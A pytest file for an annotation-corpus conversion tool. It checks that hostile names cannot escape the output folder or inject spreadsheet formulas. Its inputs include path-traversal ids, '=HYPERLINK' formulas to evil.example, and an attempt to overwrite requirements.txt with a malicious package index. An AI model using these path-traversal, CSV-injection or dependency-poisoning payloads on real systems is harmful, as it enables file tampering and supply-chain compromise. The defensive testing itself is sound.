"""Names are data (issue 31): a document id, annotator or group from an input never becomes a path outside the
destination, a file name a file system refuses, a spreadsheet formula or a broken study file; reading a written
corpus back gives the original names.

Every writer is run on names an attacker (or an unlucky export) gives: ``../`` paths, absolute paths, URLs, NUL,
DEL and TAB, 300 characters, Windows device names, names equal but for case, formulas. Around each run the test
directory is listed with a hash of every file: nothing outside the destination may appear, change or vanish.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import unicodedata
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import EXAMPLE
from unitize import load_toml, read_corpus
from unitize.cells import cell, neutral_table, value
from unitize.cli import main
from unitize.config.options import dump_string
from unitize.names import MAX_BYTES, FileNames, PathEscape, file_name, file_path, inside, original
from unitize.run.conversion import write_corpus

DOCS = ["../../../../requirements", "/abs", "http://x", "x" * 300, "nul\0byte", "CON", "Doc", "doc", "a\x7fb",
        '=HYPERLINK("http://evil.example","x")', "-2+3", ".hidden", "end. ", "%41", "ok"]
ANNOTATORS = ["../../evil", "y" * 300, "Ann", "ann", "tab\tname", "c\x7f", "w1"]
SPAN_TOOLS = ("brat", "conll-bio", "doccano", "huggingface", "label-studio", "quotes", "spacy", "span-table", "webanno-tsv", "factgenie", "xmi")
DISCOURSE = ("datt", "pdtb2", "pdtb3", "conll16")
TEXT = "The plan is a clown show.\n"


def listing(root: Path, skip: Path) -> dict[str, str]:
    """Every file under ``root`` but those under ``skip``: relative path -> sha256."""
    out = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(folder, d) != skip]
        for name in files:
            path = Path(folder, name)
            out[path.relative_to(root).as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def hostile_span_table(folder: Path) -> Path:
    """A span-table study (Parquet tables: NUL is a name too) whose every document and annotator has a hostile name;
    each annotator marks one span in each document."""
    folder.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table({"doc_id": DOCS, "text": [TEXT] * len(DOCS)}), folder / "texts.parquet")
    roster = [(f"k{i}-{j}", d, a) for i, d in enumerate(DOCS) for j, a in enumerate(ANNOTATORS)]
    pq.write_table(pa.table({"key": [r[0] for r in roster], "doc_id": [r[1] for r in roster], "annotator": [r[2] for r in roster]}),
                   folder / "roster.parquet")
    pq.write_table(pa.table({"key": [r[0] for r in roster], "label": ["=SUM(A1)"] * len(roster),
                             "begin": [4] * len(roster), "end": [8] * len(roster)}), folder / "spans.parquet")
    study = folder / "study.toml"
    study.write_text('[input]\nformat = "span-table"\nannotations = "spans.parquet"\ntexts = "texts.parquet"\nroster = "roster.parquet"\n'
                     '[unitize]\nunits = ["char"]\napproaches = ["interval"]\n', encoding="utf-8")
    return study


def names_read_back(study: Path) -> tuple[set[str], set[str], set[str]]:
    corpus = read_corpus(load_toml(study))
    return set(corpus.documents), set(corpus.annotators), {s.group for s in corpus.submissions}


@pytest.mark.parametrize("to", SPAN_TOOLS)
def test_every_span_writer_keeps_hostile_names_inside_and_reads_them_back(tmp_path: Path, to: str, capsys) -> None:
    study = hostile_span_table(tmp_path / "a" / "b" / "c" / "d" / "study")
    before = listing(tmp_path, tmp_path / "a" / "b" / "c" / "d" / "study" / "out")
    dest = study.parent / "out"
    assert main(["convert-format", str(study), "--to", to, "--out", str(dest), "-q"]) == 0, capsys.readouterr().err
    assert listing(tmp_path, dest) == before  # nothing outside the destination created, changed or removed
    for path in dest.rglob("*"):
        part = path.relative_to(dest).parts
        assert all(len(p.encode()) <= 255 and p not in ("", ".", "..") and "\0" not in p for p in part), path
    docs, annotators, _ = names_read_back(dest / "study.toml")
    assert docs == set(DOCS)
    assert annotators == set(ANNOTATORS)
    manifest = json.loads((dest / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["accounting"]["spans"]["written"] == len(DOCS) * len(ANNOTATORS)


@pytest.fixture(scope="module")
def renamed_tdb() -> tuple:
    """tdb-mini read, its documents, annotators and groups renamed to hostile names."""
    settings_ = load_toml(EXAMPLE / "study.toml")
    corpus = read_corpus(settings_)
    docs = dict(zip(sorted(corpus.documents), ["../../x", "/etc/passwd", "d" * 300]))
    people = dict(zip(corpus.annotators, ["../../evil", "NUL", "e" * 300]))
    groups = dict(zip(corpus.groups, ["../g", "a_b", "g\x7f", "CON.txt", "h" * 300]))
    for span in corpus.spans:
        span.doc_id, span.annotator, span.group = docs[span.doc_id], people[span.annotator], groups[span.group]
    corpus.documents = {docs[k]: d for k, d in corpus.documents.items()}
    from dataclasses import replace

    corpus.documents = {k: replace(d, doc_id=k) for k, d in corpus.documents.items()}
    corpus.submissions = [replace(s, doc_id=docs[s.doc_id], annotator=people[s.annotator], group=groups[s.group]) for s in corpus.submissions]
    return corpus, settings_, set(docs.values()), set(people.values()), set(groups.values())


@pytest.mark.parametrize("to", DISCOURSE)
def test_discourse_writers_keep_hostile_names_inside(tmp_path: Path, to: str, renamed_tdb: tuple) -> None:
    corpus, settings_, docs, people, groups = renamed_tdb
    dest = tmp_path / "deep" / "er" / "out"
    before = listing(tmp_path, dest)
    write_corpus(corpus, to, dest, settings=settings_)
    assert listing(tmp_path, dest) == before
    read_docs, read_people, read_groups = names_read_back(dest / "study.toml")
    assert read_docs == docs and read_people == people
    if to == "datt":  # the one whose files are named by the group
        assert read_groups == groups


def test_the_issue_case_span_table_document_id_cannot_overwrite_requirements(tmp_path: Path, capsys) -> None:
    project = tmp_path / "p" / "q" / "r" / "s"
    project.mkdir(parents=True)
    (tmp_path / "requirements.txt").write_text("numpy\n", encoding="utf-8")
    (project / "texts.csv").write_text('doc_id,text\n../../../../requirements,"--index-url https://evil.example/simple\nevil==6.6.6"\n',
                                       encoding="utf-8")
    (project / "roster.csv").write_text("key,doc_id,annotator\nk1,../../../../requirements,w1\n", encoding="utf-8")
    (project / "spans.csv").write_text("key,label,begin,end\nk1,X,0,5\n", encoding="utf-8")
    (project / "study.toml").write_text('[input]\nformat = "span-table"\nannotations = "spans.csv"\ntexts = "texts.csv"\nroster = "roster.csv"\n',
                                        encoding="utf-8")
    assert main(["convert-format", str(project / "study.toml"), "--to", "brat", "--out", str(project / "as-brat"), "-q"]) == 0
    assert (tmp_path / "requirements.txt").read_text(encoding="utf-8") == "numpy\n"
    assert not (tmp_path / "requirements.ann").exists()
    assert sorted(p.name for p in (project / "as-brat" / "annotations" / "w1").iterdir()) == [
        "%2E.%2F..%2F..%2F..%2Frequirements.ann", "%2E.%2F..%2F..%2F..%2Frequirements.txt"]


# --- the one function -------------------------------------------------------------------------------------------


def test_file_names_of_the_issue_cases() -> None:
    assert file_name("ok") == "ok" and file_name("ş中 😀, x") == "ş中 😀, x"  # readable names stay readable
    assert file_name("../../x") == "%2E.%2F..%2Fx"
    assert file_name("/abs") == "%2Fabs" and file_name("http://x") == "http%3A%2F%2Fx"
    assert file_name("nul\0byte") == "nul%00byte" and file_name("a\x7fb") == "a%7Fb" and file_name("t\tn") == "t%09n"
    assert file_name("CON") == "%43ON" and file_name("con.txt") == "%63on.txt" and file_name("CONTEXT") == "CONTEXT"
    assert file_name(".hidden") == "%2Ehidden" and file_name("end. ") == "end.%20" and file_name("100%") == "100%25"
    assert file_name("") == "%" and original("%") == ""
    long = file_name("x" * 300)
    assert long == "x" * (MAX_BYTES - 13) + "~" + hashlib.sha256(b"x" * 300).hexdigest()[:12]
    assert file_path("a/b") == "a/b" and file_path("a/../b") == "a%2F..%2Fb" and file_path("/a/b") == "%2Fa%2Fb"


NAMES = st.text(st.characters(codec="utf-8"), max_size=140) | st.sampled_from(DOCS + ANNOTATORS)


@settings(max_examples=300, deadline=None)
@given(NAMES, NAMES)
def test_a_file_name_is_one_safe_component_distinct_and_reversible(a: str, b: str) -> None:
    for name in (a, b):
        form = file_name(name)
        assert form and form not in (".", "..") and len(form.encode("utf-8")) <= MAX_BYTES
        assert not set(form) & set('/\\<>:"|?*\0') and not form.startswith(".") and not form.endswith((".", " "))
        assert all(unicodedata.category(c) not in ("Cc", "Cf", "Cs") for c in form)
        if "~" not in form or len(name.encode("utf-8", "surrogatepass")) * 3 <= MAX_BYTES:
            assert original(form) == name
    if a != b:
        assert file_name(a) != file_name(b)


def test_file_names_of_one_destination_are_distinct_on_a_case_insensitive_system() -> None:
    names = FileNames()
    forms = [names("documents", n) for n in ("Doc", "doc", "DOC", "Doc")]
    assert forms[0] == "Doc" and forms[3] == "Doc" and len({f.casefold() for f in forms[:3]}) == 3
    assert names.changed["documents"] == {forms[1]: "doc", forms[2]: "DOC"}
    assert names("annotators", "doc") == "doc"  # another kind of name: another folder


def test_a_path_outside_the_destination_is_refused(tmp_path: Path) -> None:
    for bad in ("../x", "/etc/passwd", "a/../../x", "a\0b", "a\\b", "", "a//b", "x" * 256):
        with pytest.raises(PathEscape):
            inside(tmp_path, bad)
    (tmp_path / "link").symlink_to(tmp_path.parent)
    with pytest.raises(PathEscape):
        inside(tmp_path, "link/escaped.txt")
    assert inside(tmp_path, "a/b.txt") == tmp_path / "a" / "b.txt"


# --- CSV cells, TOML, the screen ------------------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from(list("=+-@\t\r'0123.e x")), max_size=8))
def test_csv_cells_never_start_a_formula_and_give_the_value_back(text: str) -> None:
    written = cell(text)
    assert value(written) == text
    is_number = re.fullmatch(r"'*[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?", text) is not None
    assert not (written[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number)
    assert neutral_table(pa.table({"c": [text]}))["c"].to_pylist() == [written]


def test_review_and_results_csv_hold_no_formula(tmp_path: Path, capsys) -> None:
    """The issue's case: document ids and labels that are formulas reach adjudicate's review.csv and agree's CSVs."""
    study = tmp_path / "study"
    study.mkdir()
    (study / "texts.csv").write_text('doc_id,text\n"=HYPERLINK(""http://evil.example"",""x"")",aaaa bbbb cccc\n-2+3,dddd eeee\n',
                                     encoding="utf-8")
    roster = "key,doc_id,annotator\n" + "".join(f"k{d}{a},{doc},{who}\n" for d, doc in enumerate(['"=HYPERLINK(""http://evil.example"",""x"")"', "-2+3"])
                                               for a, who in enumerate(["@a", "+b", "c"]))
    (study / "roster.csv").write_text(roster, encoding="utf-8")
    spans = "key,label,begin,end\nk00,=1+1,0,4\nk01,=1+1,0,9\nk02,X,5,9\nk10,+cmd,0,4\nk11,+cmd,0,4\n"
    (study / "spans.csv").write_text(spans, encoding="utf-8")
    (study / "study.toml").write_text('[input]\nformat = "span-table"\nannotations = "spans.csv"\ntexts = "texts.csv"\nroster = "roster.csv"\n'
                                      '[unitize]\nunits = ["char"]\napproaches = ["interval"]\nmodes = ["separate", "labels"]\n', encoding="utf-8")
    out = tmp_path / "out"
    assert main(["convert", str(study / "study.toml"), "--out", str(out), "-q"]) == 0
    assert main(["agree", str(out), "--metric", "alpha", "-q"]) == 0
    assert main(["adjudicate", str(out), "-q"]) == 0
    assert main(["export", str(out), "--to", "long-csv", "-q"]) == 0
    csvs = [*(out / "agreement").glob("*.csv"), out / "adjudication" / "review.csv", *(out / "exports").rglob("*.csv")]
    cells = [c for path in csvs for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in cells and "'-2+3" in cells
    risky = [c for c in cells if c and (c[0] in "=+@\t\r" or (c[0] == "-" and not c[1:].replace(".", "", 1).replace("e-", "").isdigit()))]
    assert risky == []
    review = pq.read_table(out / "adjudication" / "units.parquet") if (out / "adjudication" / "units.parquet").exists() else None
    if review is not None and "doc_id" in review.column_names:  # the Parquet twin keeps the raw value
        assert "-2+3" in set(review["doc_id"].to_pylist())


def test_span_table_csv_is_written_spreadsheet_safe_and_read_back_exactly(tmp_path: Path) -> None:
    study = hostile_span_table(tmp_path / "study")
    dest = tmp_path / "csv"
    assert main(["convert-format", str(study), "--to", "span-table", "--out", str(dest), "-q"]) == 0
    roster = (dest / "annotations" / "roster.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in roster and "\n=" not in roster and ",=" not in roster
    assert load_toml(dest / "study.toml").input["spreadsheet_safe"] is True
    corpus = read_corpus(load_toml(dest / "study.toml"))
    assert {s.label for s in corpus.spans} == {"=SUM(A1)"} and set(corpus.documents) == set(DOCS)


def test_toml_strings_hold_every_character() -> None:
    import tomllib

    for text in ("a\x7fb", "t\tn", 'q"\\', "\x00\x1f\x85", "C:\\x", "é😀"):
        assert tomllib.loads(f"k = {dump_string(text)}")["k"] == text


def test_names_on_screen_keep_one_line(tmp_path: Path, capsys) -> None:
    study = hostile_span_table(tmp_path / "study")
    assert main(["convert-format", str(study), "--to", "span-table", "--out", str(tmp_path / "o")]) == 0
    out = capsys.readouterr().out
    summary = out.splitlines()[0]
    assert "tab\\tname" in summary and "\t" not in summary and "y" * 60 not in summary


HOSTILE_CHARS = st.sampled_from(list("aB./\\:%~ \t\0\x7f*?") + ["..", "CON", "ş", "😀", "\u202e", "x" * 90])


@settings(max_examples=6, deadline=None)
@given(st.lists(st.lists(HOSTILE_CHARS, min_size=1, max_size=5).map("".join), min_size=2, max_size=4, unique=True),
       st.sampled_from(["brat", "webanno-tsv", "conll-bio"]))
def test_generated_names_through_a_writer_stay_inside_and_come_back(names: list[str], to: str) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        study = root / "s" / "study.toml"
        study.parent.mkdir()
        pq.write_table(pa.table({"doc_id": names, "text": [TEXT] * len(names)}), study.parent / "texts.parquet")
        pq.write_table(pa.table({"key": [f"k{i}" for i in range(len(names))], "doc_id": names, "annotator": names[::-1]}),
                       study.parent / "roster.parquet")
        pq.write_table(pa.table({"key": [f"k{i}" for i in range(len(names))], "label": ["X"] * len(names), "begin": [4] * len(names),
                                 "end": [8] * len(names)}), study.parent / "spans.parquet")
        study.write_text('[input]\nformat = "span-table"\nannotations = "spans.parquet"\ntexts = "texts.parquet"\nroster = "roster.parquet"\n',
                         encoding="utf-8")
        dest = root / "s" / "out"
        before = listing(root, dest)
        assert main(["convert-format", str(study), "--to", to, "--out", str(dest), "-q"]) == 0
        assert listing(root, dest) == before
        docs, annotators, _ = names_read_back(dest / "study.toml")
        assert docs == set(names) and annotators == set(names)


def test_commands_with_a_destination_keep_hostile_names_inside(tmp_path: Path) -> None:
    """convert, agree --plot, export and adjudicate --to on documents, annotators and a layer named to climb out."""
    study = hostile_span_table(tmp_path / "a" / "b" / "study")
    text = study.read_text(encoding="utf-8").replace('roster = "roster.parquet"\n', 'roster = "roster.parquet"\nlayer = "../../../../evil"\n')
    study.write_text(text, encoding="utf-8")
    out = study.parent / "out"
    before = listing(tmp_path, out)
    assert main(["convert", str(study), "--out", str(out), "-q"]) == 0
    assert main(["agree", str(out), "--metric", "alpha", "--plot", "-q"]) == 0
    for fmt in ("rat", "reliability-csv", "long-csv", "disagreements"):
        assert main(["export", str(out), "--to", fmt, "-q"]) == 0
    gold = study.parent / "gold"
    assert main(["adjudicate", str(out), "--to", "brat", "--dest", str(gold), "-q"]) == 0
    assert listing(tmp_path, study.parent) == {k: v for k, v in before.items() if not k.startswith("a/b/study/")}
    assert not list(tmp_path.rglob("evil*"))
    plots = sorted(p.name for p in (out / "agreement" / "plots").iterdir())
    assert plots == ["alpha_%2E.%2F..%2F..%2F..%2Fevil.png", "alpha_%2E.%2F..%2F..%2F..%2Fevil.svg"]
    assert names_read_back(gold / "study.toml")[0] <= set(DOCS)


def test_the_report_shows_a_name_as_named_not_as_its_neutralised_csv_cell(tmp_path: Path) -> None:
    """A candidate named ``@run1`` is ``'@run1`` in alt_test.csv (a spreadsheet would run it) and ``@run1`` on the
    report's Models page, which reads that CSV."""
    from unitize.dataset.directory import OutputData
    from unitize.report import study as report_study

    folder = tmp_path / "study"
    source = EXAMPLE.parent / "models-mini"
    (folder / "annotations").mkdir(parents=True)
    for path in (source / "annotations").iterdir():
        target = "@run1.jsonl" if path.name == "gpt-run1.jsonl" else path.name
        (folder / "annotations" / target).write_bytes(path.read_bytes())
    text = (source / "study.toml").read_text(encoding="utf-8")
    text = re.sub(r'candidates = \[[^\]]*\]', 'candidates = ["@run1", "gpt-run2"]', text)
    (folder / "study.toml").write_text(text.replace('"texts"', f'"{(source / "texts").as_posix()}"'), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["convert", str(folder / "study.toml"), "--out", str(out), "-q"]) == 0
    assert main(["agree", str(out), "--alt-test", "--min-instances", "5", "-q"]) == 0
    written = list(csv.DictReader(io.StringIO((out / "agreement" / "alt_test.csv").read_text(encoding="utf-8"))))
    assert [r["candidate"] for r in written] == ["'@run1", "gpt-run2"]
    shown = report_study.alt_test(OutputData(out))
    assert shown is not None and [r["candidate"] for r in shown["verdicts"]] == ["@run1", "gpt-run2"]
